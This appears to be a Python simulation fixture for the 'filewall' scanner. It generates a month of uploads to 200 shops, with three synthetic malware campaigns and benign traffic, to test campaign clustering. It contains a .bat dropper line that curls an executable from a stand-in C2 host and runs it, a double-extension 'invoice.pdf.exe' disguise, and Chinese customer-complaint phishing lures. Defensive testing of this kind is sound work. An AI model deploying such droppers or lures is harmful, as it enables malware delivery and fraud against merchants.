"""A simulated month of traffic to 200 shops: three campaigns and ordinary customers.

Every report is made by scanning real bytes with the engine (with the TLSH hook), the chat
is judged by the real chat analyzer. Identical bytes are scanned once and the report reused
(as the desk would: same bytes, same tree).

- Campaign A "same archive": one zip (setuptools' cli-64.exe as ``发票.pdf.exe`` + a note)
  sent unchanged to 20 shops, by a different throw-away sender each time, no chat.
- Campaign B "re-built": pip's t64.exe with a few bytes changed in a string and a
  per-build overlay, in a zip with a ``.bat`` that fetches from ``c2.example.invalid``
  (URL path unique per build); five builds carry no script and link by TLSH alone.
- Campaign C "lure only": a different random script each time, no shared host, but the
  same chat script (re-typed: traditional characters, spacing, new order numbers and
  passwords) from three sender accounts.
- Ordinary traffic: a photo 120 shops receive; notes mentioning example.com and a CDN
  host used by everyone (``img.shopcdn.test``); a driver bundle (``gui-32.exe``: a common
  import hash) 70 shops receive; benign chats, some of them the same polite template.
"""

from __future__ import annotations

import copy
import datetime as dt
import hashlib
import importlib.util
import io
import random
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from filewall.chat import analyze_chat
from filewall.engine import ScanOptions, scan_bytes
from filewall.limits import Limits
from filewall.platform.campaigns import ShopInfo
from filewall.platform.indicators import ReportIndicators, from_report, tlsh_hook

INDUSTRIES = ["apparel", "electronics", "cosmetics", "furniture", "toys", "food", "sports", "books"]
REGIONS = [f"region-{i:02d}" for i in range(20)]
START = dt.datetime(2026, 10, 1, tzinfo=dt.UTC)
C2 = "c2.example.invalid"


def package_file(package: str, *parts: str) -> Path:
    spec = importlib.util.find_spec(package)
    assert spec and spec.submodule_search_locations, f"{package} is not installed"
    return Path(next(iter(spec.submodule_search_locations)), *parts)


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 10, 1, 12, 0, 0))
            info.flag_bits |= 0x800  # UTF-8 names
            archive.writestr(info, data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def photo_bytes(seed: int = 7) -> bytes:
    from PIL import Image

    rng = random.Random(seed)
    image = Image.new("RGB", (160, 120))
    image.putdata([(rng.randrange(256), rng.randrange(120), 90) for _ in range(160 * 120)])
    out = io.BytesIO()
    image.save(out, "JPEG", quality=80)
    return out.getvalue()


LURE = (
    "您好，我是贵店的老客户，上次买的货有质量问题，我把照片和视频都打包发给你了，文件比较大所以压缩了，"
    "解压密码是{pwd}，请用电脑打开看一下，手机打不开的。麻烦尽快处理一下，不然我就去平台投诉了，订单号{order}。"
)
LURE_TRAD = (
    "您好，我是貴店的老客戶，上次買的貨有質量問題，我把照片和視頻都打包發給你了，文件比較大所以壓縮了，"
    "解壓密碼是{pwd}，請用電腦打開看一下，手機打不開的。麻煩盡快處理一下，不然我就去平台投訴了，訂單號{order}。"
)
POLITE = "亲，在吗？我想问一下我买的这个商品什么时候能发货呀，订单号{order}，麻烦帮我查一下物流，谢谢啦！"
BENIGN_CHATS = [
    "这件衣服有XL码吗？想给我爸买一件，他平时穿175的。",
    "收到货了，质量不错，就是颜色比图片深一点，可以换吗",
    "我想开个发票，抬头是{order}公司，税号稍后发你",
    "请问周末发货吗，着急用，谢谢",
    "图片里这个款还有货吗？我要两件，能便宜点不",
]


@dataclass
class Sim:
    shops: dict[str, ShopInfo]
    records: list[ReportIndicators]
    #: campaign letter → the shop ids it hit
    truth: dict[str, set[str]]
    #: campaign letter → report ids in it
    truth_reports: dict[str, set[str]] = field(default_factory=dict)
    samples: dict[str, bytes] = field(default_factory=dict)
    #: The vendor driver in the ordinary bundles (known good: what an admin allow-lists).
    driver_sha256: str = ""
    #: What the desk would have stored: (report_id, shop, seen_at, file name, bytes,
    #: report dict, chat analysis, sender), in time order.
    stored: list[tuple] = field(default_factory=list)


class _Scanner:
    def __init__(self):
        self.cache: dict[bytes, dict] = {}
        self.options = ScanOptions(limits=Limits.from_env({}), on_node=tlsh_hook())

    def report(self, data: bytes, name: str) -> dict:
        key = data
        if key not in self.cache:
            self.cache[key] = scan_bytes(data, name, self.options).to_dict()
        return self.cache[key]


def build(seed: int = 1) -> Sim:
    rng = random.Random(seed)
    scanner = _Scanner()
    shops = {
        f"shop-{i:03d}": ShopInfo(
            id=f"shop-{i:03d}", name=f"Shop {i:03d}", industry=INDUSTRIES[i % 8], region=REGIONS[(i * 7) % 20]
        )
        for i in range(200)
    }
    shop_ids = list(shops)
    campaign_shops = rng.sample(shop_ids, 60)
    truth = {"A": set(campaign_shops[:20]), "B": set(campaign_shops[20:40]), "C": set(campaign_shops[40:])}
    events: list[tuple[dt.datetime, str, bytes, str, str | None, str | None, str | None]] = []
    # (time, shop, bytes, file name, sender, chat text, campaign)

    def when(first_day: float, last_day: float) -> dt.datetime:
        return START + dt.timedelta(seconds=rng.uniform(first_day * 86400, last_day * 86400))

    def order() -> str:
        return str(rng.randrange(10**17, 10**18))

    # Campaign A: the same archive everywhere.
    alt = package_file("setuptools", "cli-64.exe").read_bytes()
    archive_a = zip_bytes([("发票.pdf.exe", alt), ("说明.txt", "请双击打开发票查看明细。\r\n".encode())])
    for shop in truth["A"]:
        for _ in range(rng.choice((1, 1, 2))):
            events.append(
                (when(1, 10), shop, archive_a, "发票-11月.zip", f"tb_{rng.randrange(10**9)}", None, "A")
            )

    # Campaign B: re-built samples, shared C2 host.
    pe = package_file("pip", "_vendor", "distlib", "t64.exe").read_bytes()
    marker = b"Fatal error in launcher"
    assert marker in pe
    builds = []
    for index, shop in enumerate(sorted(truth["B"])):
        tag = f"{rng.randrange(16**6):06x}".encode()
        rebuilt = (
            pe.replace(marker, b"Fatal error in " + tag[:4] + b"cher", 1) + b"CFG" + tag + bytes([index])
        )
        members = [("产品报价单.exe", rebuilt)]
        if index >= 5:
            script = f"@echo off\r\ncurl -s http://{C2}/gate.php?id={tag.decode()} -o %TEMP%\\u.exe && start %TEMP%\\u.exe\r\n"
            members.append(("安装说明.bat", script.encode()))
        builds.append(zip_bytes(members))
        for _ in range(rng.choice((1, 2))):
            events.append(
                (
                    when(3, 15),
                    shop,
                    builds[-1],
                    "报价单.zip",
                    f"wx_{rng.randrange(10**9)}",
                    "看下这个报价单",
                    "B",
                )
            )

    # Campaign C: only the lure and the senders in common.
    senders_c = ["tb_laokehu_2026", "tb_laokehu_2027", "wx:refund-service-88"]
    for shop in truth["C"]:
        for _ in range(rng.choice((1, 2))):
            template = rng.choice((LURE, LURE, LURE_TRAD))
            text = template.format(pwd=rng.randrange(1000, 9999), order=order())
            if rng.random() < 0.5:
                text = text.replace("，", "， ").replace("请用电脑", "请用 电脑")
            junk = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(600))
            script = f'Dim {junk[:8]}\r\n{junk[8:16]} = "{junk[16:]}"\r\nCreateObject("WScript.Shell").Run "cmd /c echo {junk[:20]}"\r\n'
            events.append(
                (when(5, 20), shop, script.encode(), "质量问题照片.vbs", rng.choice(senders_c), text, "C")
            )

    # Ordinary traffic.
    photo = photo_bytes()
    gui = package_file("setuptools", "gui-32.exe").read_bytes()
    photo_shops = set(rng.sample(shop_ids, 120))
    driver_shops = set(rng.sample(shop_ids, 70))
    for shop in shop_ids:
        if shop in photo_shops:
            events.append(
                (
                    when(0, 30),
                    shop,
                    photo,
                    "IMG_2026.jpg",
                    f"buyer_{rng.randrange(10**9)}",
                    rng.choice(BENIGN_CHATS).format(order=order()),
                    None,
                )
            )
        note = (
            f"订单 {order()} 的尺寸表见 https://www.example.com/size-chart, 图片 https://img.shopcdn.test/p/{rng.randrange(10**6)}.jpg\n"
            f"备注: {rng.randrange(10**9)}\n"
        ).encode()
        events.append(
            (
                when(0, 30),
                shop,
                note,
                "备注.txt",
                f"buyer_{rng.randrange(10**9)}",
                POLITE.format(order=order()),
                None,
            )
        )
        if shop in driver_shops:
            model = rng.randrange(10**6)
            readme = f"驱动安装说明 https://img.shopcdn.test/driver/{model}.html 型号 {model} see example.com".encode()
            bundle = zip_bytes([("打印机驱动.exe", gui), ("photo.jpg", photo), ("readme.txt", readme)])
            events.append(
                (
                    when(0, 30),
                    shop,
                    bundle,
                    "驱动.zip",
                    f"buyer_{rng.randrange(10**9)}",
                    POLITE.format(order=order()),
                    None,
                )
            )

    events.sort(key=lambda item: item[0])
    records = []
    truth_reports: dict[str, set[str]] = {"A": set(), "B": set(), "C": set()}
    samples: dict[str, bytes] = {}
    stored: list[tuple] = []
    for number, (seen_at, shop, data, name, sender, chat_text, campaign) in enumerate(events):
        report = scanner.report(data, name)
        chat = analyze_chat(chat_text).to_dict() if chat_text else None
        report_id = f"r{number:05d}"
        record = from_report(
            report,
            report_id=report_id,
            shop_id=shop,
            seen_at=seen_at,
            sender=sender,
            chat_text=chat_text,
            chat=chat,
        )
        records.append(record)
        samples[report["tree"]["sha256"]] = data
        stored.append((report_id, shop, seen_at, name, data, report, chat, sender))
        if campaign:
            truth_reports[campaign].add(report_id)
    return Sim(
        shops=shops,
        records=records,
        truth=truth,
        truth_reports=truth_reports,
        samples=samples,
        driver_sha256=hashlib.sha256(gui).hexdigest(),
        stored=stored,
    )


def _strip_tlsh(report: dict) -> dict:
    report = copy.deepcopy(report)
    stack = [report["tree"]]
    while stack:
        node = stack.pop()
        node.get("info", {}).pop("tlsh", None)
        stack.extend(node.get("children") or [])
    return report


def write_desk(sim, data_dir: Path, database_url: str | None = None):
    """Write the simulated month the way the desk stores it (no TLSH in the trees)."""
    from filewall.service.settings import Settings
    from filewall.storage import BlobStore
    from filewall.store import Database
    from filewall.store.models import Report, Shop

    settings = Settings.load(data_dir, database_url=database_url)
    db = Database(settings.database)
    db.migrate()
    blobs = BlobStore(settings.samples_dir).setup()
    with db.write() as session:
        for shop in sim.shops.values():
            session.add(Shop(id=shop.id, name=shop.name, industry=shop.industry, region=shop.region))
        session.flush()
        for report_id, shop, seen_at, name, data, report, chat, sender in sim.stored:
            blobs.put_bytes(data)
            session.add(
                Report(
                    id=report_id, shop_id=shop, submission_id=report_id, created_at=seen_at, file_name=name,
                    size=len(data), sha256=report["tree"]["sha256"], verdict=report["verdict"], score=report["score"],
                    report=_strip_tlsh(report), chat=chat, sender=sender,
                )
            )  # fmt: skip
    db.dispose()
    return settings
